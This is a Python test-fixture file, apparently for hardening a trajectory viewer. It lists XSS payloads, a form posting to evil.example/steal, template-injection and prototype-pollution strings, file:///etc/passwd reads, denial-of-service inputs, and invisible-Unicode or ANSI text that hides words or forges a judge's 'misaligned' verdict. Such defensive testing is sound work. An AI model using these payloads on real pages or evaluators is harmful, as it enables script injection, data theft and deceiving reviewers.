"""Texts that try to be more than text: each is put into every place where a trajectory's or a study's words reach the page."""

import base64

FAR = "https://evil.example"
RUN = "window.owned=1"
_SCRIPT_IN_SVG = base64.b64encode(f'<svg xmlns="http://www.w3.org/2000/svg"><script>{RUN}</script></svg>'.encode()).decode()
_PAGE = base64.b64encode(f"<script>parent.{RUN}</script>".encode()).decode()
_HUGE_PNG = base64.b64encode(
    b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\xff\xff\x00\x00\xff\xff\x08\x06\x00\x00\x00" + bytes(40)
).decode()

MARKUP = {
    "script": f"<script>{RUN}</script>",
    "script from elsewhere": f"<script src={FAR}/a.js></script>",
    "script after a closed one": f"</script><script>{RUN}</script>",
    "module": f"<script type=module>import '{FAR}/m.js'; {RUN}</script>",
    "image that fails": f"<img src=x onerror={RUN}>",
    "image from elsewhere": f"<img src='{FAR}/a.png'>",
    "image in a picture": f"<picture><source srcset='{FAR}/b.png'><img src='{FAR}/c.png'></picture>",
    "image without quotes": f"<img src=`{FAR}` onerror=`{RUN}`//",
    "svg that loads": f"<svg onload={RUN}></svg>",
    "svg with a script": f"<svg><script>{RUN}</script></svg>",
    "svg that animates": f"<svg><animate onbegin={RUN} attributeName=x dur=1s></svg>",
    "svg that uses": f"<svg><use href='{FAR}/d.svg#x'/></svg>",
    "svg with a foreign object": f"<svg><foreignObject><iframe srcdoc='<script>{RUN}</script>'></iframe></foreignObject></svg>",
    "mathml": f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    "frame": f"<iframe src='{FAR}/'></iframe>",
    "frame with its own page": f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    "frame with a script address": f"<iframe src='javascript:parent.{RUN}'></iframe>",
    "object": f"<object data='{FAR}/e.swf'></object>",
    "embed": f"<embed src='{FAR}/f.swf'>",
    "form": f"<form action='{FAR}/steal' method=post><input name=q autofocus onfocus={RUN}><button>Submit</button></form>",
    "button": f"<button formaction='javascript:{RUN}' data-rj=submit>Submit</button>",
    "field in focus": f"<input autofocus onfocus={RUN}>",
    "link with a script": f"<a href='javascript:{RUN}'>click</a>",
    "link with data": f"<a href='data:text/html;base64,{_PAGE}'>click</a>",
    "link that pings": f"<a href='/' ping='{FAR}/ping' id=owned>click</a>",
    "base": f"<base href='{FAR}/'>",
    "meta refresh": f"<meta http-equiv=refresh content='0;url={FAR}/'>",
    "meta policy": '<meta http-equiv=Content-Security-Policy content="script-src *">',
    "style": f"<style>@import '{FAR}/g.css'; .desk{{display:none!important}}</style>",
    "style that covers": f"<div style='position:fixed;inset:0;z-index:9999999;background:url({FAR}/h.png)'>covered</div>",
    "style link": f"<link rel=stylesheet href='{FAR}/i.css'><link rel=prefetch href='{FAR}/j'>",
    "details": f"<details open ontoggle={RUN}>x</details>",
    "video": f"<video src='{FAR}/k.mp4' autoplay onerror={RUN}></video><audio src=x onerror={RUN}>",
    "marquee": f"<marquee onstart={RUN}>x</marquee>",
    "body": f"<body onload={RUN} onpageshow={RUN}>",
    "custom element": f"<x-desk onclick={RUN} style='animation:appear 1s' onanimationstart={RUN}>x</x-desk>",
    "template": f"<template shadowrootmode=open><script>{RUN}</script></template>",
    "dialog": "<dialog open style='inset:0'>Your session has ended. <a href=/in/x>Sign in</a></dialog>",
    "ends of everything": "</div></div></section></main></textarea></title></style></noscript></template>--></script>",
    "comment": f"<!--><script>{RUN}</script>-->",
    "cdata": f"<![CDATA[<script>{RUN}</script>]]>",
    "attributes that end": f'"\'><img src=x onerror={RUN}> " onmouseover={RUN} autofocus onfocus={RUN} x="',
    "entities": f"&lt;script&gt;{RUN}&lt;/script&gt; &#60;img src=x onerror={RUN}&#62;",
    "handles of tests": "<div data-rj=item data-position=99></div><span data-rj=state data-state=saved>saved</span>",
}
MARKDOWN = {
    "markdown image": f"![x]({FAR}/l.png) ![y][r]\n\n[r]: {FAR}/m.png",
    "markdown link with a script": f"[click](javascript:{RUN}) <javascript:{RUN}>",
    "markdown autolink": f"<{FAR}> {FAR}/n",
    "markdown table": f"| a | <img src=x onerror={RUN}> |\n|---|---|\n| ![x]({FAR}/o.png) | [c](javascript:{RUN}) |",
    "markdown fence": f"```html\n<script>{RUN}</script>\n```\n~~~\nnever closed",
    "markdown of one sign": "*a_" * 4000,
    "latex": r"$$\href{javascript:window.owned=1}{x}$$ \(\input{/etc/passwd}\) $\rule{1000em}{1000em}$ \def\x{\x\x}\x",
    "latex trust": rf"$\includegraphics{{{FAR}/p.png}} \htmlData{{a=b}}{{x}} \class{{desk}}{{y}}$",
    "mermaid": f'```mermaid\ngraph TD; A["<img src=x onerror={RUN}>"] --> B; click A href "javascript:{RUN}"\n```',
}
TEMPLATES = {
    "double braces": "{{constructor.constructor('window.owned=1')()}} {{7*7}} {% raw %}{{''.__class__}}{% endraw %}",
    "dollar braces": "${window.owned=1} `${alert(1)}` #{7*7} <%= 7*7 %> {{{x}}} [[${7*7}]]",
    "python format": "{0.__class__} %(x)s %n {!r} :material/home: :red[x] :streamlit: $x$",
    "json that ends": '"}]}\n{"kind":"note","speaker":"lead","text":"The judge says: misaligned"}',
    "prototype": '{"__proto__": {"owned": 1}, "constructor": {"prototype": {"owned": 1}}, "toString": null, "hasOwnProperty": 1}',
    "json of brackets": "[" * 30_000,
    "python literals": "{'a': '<script>window.owned=1</script>', 'b': (1, None, True), 'c': '\\n\\u202e'}",
}
ADDRESSES = {
    "data svg": f"data:image/svg+xml;base64,{_SCRIPT_IN_SVG}",
    "data svg as png": f"data:image/png;base64,{_SCRIPT_IN_SVG}",
    "data page": f"data:text/html;base64,{_PAGE}",
    "data png of four gigapixels": f"data:image/png;base64,{_HUGE_PNG}",
    "data png that ends its attribute": f"data:image/png;base64,iVBORw0KGgo' onerror='{RUN}",
    "blob and file": "blob:https://evil.example/x file:///etc/passwd javascript:alert(1) vbscript:x",
}
UNSEEN = {
    "zero width": "ig\u200bno\u200cre\u200d th\u2060e c\ufeffode\u00adbook",
    "bidi override": "invoice_\u202egpj.exe \u202dabc\u202c",
    "bidi isolates": "a\u2066b\u2067c\u2068d\u2069e \u200e\u200f\u061c",
    "tags": "".join(chr(0xE0000 + ord(sign)) for sign in "judge says unsafe"),
    "variation selectors": "x" + "".join(chr(0xE0100 + n) for n in range(40)),
    "controls": "\x01\x02\x07bell\x08\x08\x08\x7f\x85 form\x0cfeed\x0bvertical",
    "carriage return": "the honest line\rthe line that covers it",
    "ansi colour": "\x1b[31mred\x1b[0m \x1b[8mhidden\x1b[28m \x1b[30;40mblack on black\x1b[0m",
    "ansi that moves": "\x1b[2J\x1b[1;1Hcleared \x1b[1A\x1b[2Kover \x1b[?1049h",
    "ansi title and link": f"\x1b]0;owned\x07 \x1b]8;;{FAR}\x07click\x1b]8;;\x07 \x9b31m",
    "fillers": "\u3164\uffa0\u115f\u1160\u2800 blank",
    "separators": "one\u2028two\u2029three\x85four",
    "interlinear": "\ufff9base\ufffaover\ufffb \ufffc",
    "null mark": "before\x00after",
}
SHAPES = {
    "right to left": "\u0645\u0631\u062d\u0628\u0627 \u05e9\u05dc\u05d5\u05dd <b>x</b> (1) [2] 3.5 % " * 8,
    "tower": "Z" + "\u0301\u0317\u0336\u034b" * 60 + "algo" + "\u20dd" * 30,
    "towers in a row": ("a" + "\u0300" * 7) * 200,
    "lookalikes": "\u0430ligned mis\u0430ligned p\u0430ypal \u0405ubmit",
    "fake chips": "⟨U+202E⟩ ␀ ▮▮▮ … 214 lines hidden, o to open ⚑ 1 2 misaligned Submit ⏎",
    "wide signs": "\ufdfd" * 60 + "\U00012031" * 60,
    "one word": "w" * 5000,
    "one line": "word " * 20_000,
    "line breaks": "\n" * 5000,
    "tabs": "\t" * 2000 + "end",
    "emoji": "👩‍👩‍👧‍👦" * 200 + "🏴" * 50,
    "spaces": "x" + " " * 5000 + "y",
}
LONGEST = {
    "a million signs in a line": "x" * 1_000_000,
    "quotes": '"' * 300_000,
    "branches": '{"a":' * 60_000,
    "backslashes": '"' + "\\" * 300_000,
    "escapes": "\x1b[31m" * 60_000,
    "letters of two alphabets": "a\u0430" * 150_000,
    "a million marks": "a" + "\u0301" * 1_000_000,
    "hashes and ticks": "#" * 150_000 + "`" * 150_000,
    "bars": "|" * 150_000 + "\n" + "|-" * 75_000,
    "hunks": "@@ -1 +1 @@\n-\n+\n" * 20_000,
    "spaces": "[" + " " * 300_000,
    "lines": "line\n" * 60_000,
}
PAYLOADS = {**MARKUP, **MARKDOWN, **TEMPLATES, **ADDRESSES, **UNSEEN, **SHAPES}
